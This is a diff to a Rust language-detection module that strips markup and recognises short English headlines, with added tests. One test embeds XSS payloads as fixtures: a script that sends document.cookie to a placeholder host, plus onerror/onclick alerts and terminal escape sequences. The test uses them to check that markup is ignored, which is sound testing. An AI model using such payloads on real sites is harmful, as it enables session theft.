@@ -1,11 +1,13 @@
 //! Text → ISO 639-1 code of its language.
 
 mod script;
+mod words;
 
 use whichlang::{Lang, detect_language};
 
 use crate::lexicon::language::{LanguageLexicon, LanguageVotes};
 use script::{Script, language_of, main_script, script_of};
+use words::{is_plain_english, without_markup};
 
 /// How many bytes of a long text tell the language, at each of three places.
 const SAMPLE: usize = 600;
@@ -15,6 +17,7 @@ const FEWEST_LETTERS: usize = 30;
 const SURE: usize = 150;
 /// A language has at least so many small words of a hundred words.
 const FEWEST_SMALL_WORDS: usize = 12;
+const ENGLISH: &str = "en";
 /// The code of a language that is none of those known (ISO 639-2).
 const UNDETERMINED: &str = "und";
 
@@ -26,6 +29,9 @@ pub(super) fn detect(text: &str, lexicon: &LanguageLexicon) -> Option<String> {
         .chars()
         .filter(|letter| letter.is_alphabetic())
         .count();
+    if n_letters < SURE && is_plain_english(&sample, lexicon) {
+        return Some(ENGLISH.to_owned());
+    }
     if n_letters < FEWEST_LETTERS && main_script(&sample).is_none_or(|main| main == Script::Latin) {
         return None;
     }
@@ -56,7 +62,7 @@ pub(super) fn checked(
     if n_letters < SURE {
         return Some(stated);
     }
-    let is_english = stated == "en";
+    let is_english = stated == ENGLISH;
     match language_of(main, &sample) {
         // Several languages share a script; what is stated is then as good as any of them.
         Some(code) if is_english => Some(code.to_owned()),
@@ -65,9 +71,9 @@ pub(super) fn checked(
             let votes = small_words(&sample, lexicon);
             let found = votes.language(&sample);
             let is_other = if is_english {
-                found != "en" && !votes.has_english()
+                found != ENGLISH && !votes.has_english() && !is_plain_english(&sample, lexicon)
             } else {
-                found == "en"
+                found == ENGLISH
             };
             Some(if is_other { found.to_owned() } else { stated })
         }
@@ -76,7 +82,7 @@ pub(super) fn checked(
 
 fn sample(text: &str) -> String {
     if text.len() <= 3 * SAMPLE {
-        return text.to_owned();
+        return without_markup(text);
     }
     let mut sample = String::with_capacity(3 * SAMPLE);
     for part in [1, 3, 5] {
@@ -85,7 +91,7 @@ fn sample(text: &str) -> String {
         sample.push_str(&text[start..end]);
         sample.push(' ');
     }
-    sample
+    without_markup(&sample)
 }
 
 /// The small words of a text in Latin letters.
@@ -191,7 +197,47 @@ mod tests {
         ] {
             assert_eq!(detect(text, &lexicon).as_deref(), Some("en"), "{text}");
         }
+        for text in [
+            "Explosion kills seven in Quetta.",
+            "Gunmen kill 12 in Mali",
+            "Market bombing leaves dozens dead",
+            "Troops leave Kabul",
+            "Kenya bans plastic bags",
+        ] {
+            assert_eq!(detect(text, &lexicon).as_deref(), Some("en"), "{text}");
+        }
+        for text in [
+            "Tote in Kiel",
+            "Paris est en deuil",
+            "Dos muertos en Lima",
+            "Kabul",
+            "Mali: 12",
+        ] {
+            assert_eq!(detect(text, &lexicon), None, "{text}");
+        }
         let dutch = "De minister zei dat het leger de stad niet had verlaten.";
         assert_eq!(detect(dutch, &lexicon).as_deref(), Some("nl"));
+    }
+
+    #[test]
+    fn marks_and_code_among_the_words_say_nothing_of_their_language() {
+        let lexicon = LanguageLexicon::load().unwrap();
+        let code = "<script>fetch(\"http://a.example/?c=\"+document.cookie)</script>";
+        for text in [
+            format!(
+                "Explosion kills seven \u{202e}people \u{1b}[31min Quetta. {code} {code} {code}"
+            ),
+            format!(
+                "{code} Troops shelled Homs. <b onclick=alert(1)>Rebels</b> left \u{1b}]0;x\u{7}."
+            ),
+            format!("<img src=x onerror=alert(document.domain)> Two killed in Lima {code} {code}"),
+        ] {
+            let stated = checked(Some("en".to_owned()), &text, &lexicon);
+            assert_eq!(stated.as_deref(), Some("en"), "{text}");
+            assert_eq!(detect(&text, &lexicon).as_deref(), Some("en"), "{text}");
+        }
+        let french =
+            format!("Deux morts dans une explosion à Quetta, selon la police. {code} {code}");
+        assert_eq!(detect(&french, &lexicon).as_deref(), Some("fr"));
     }
 }
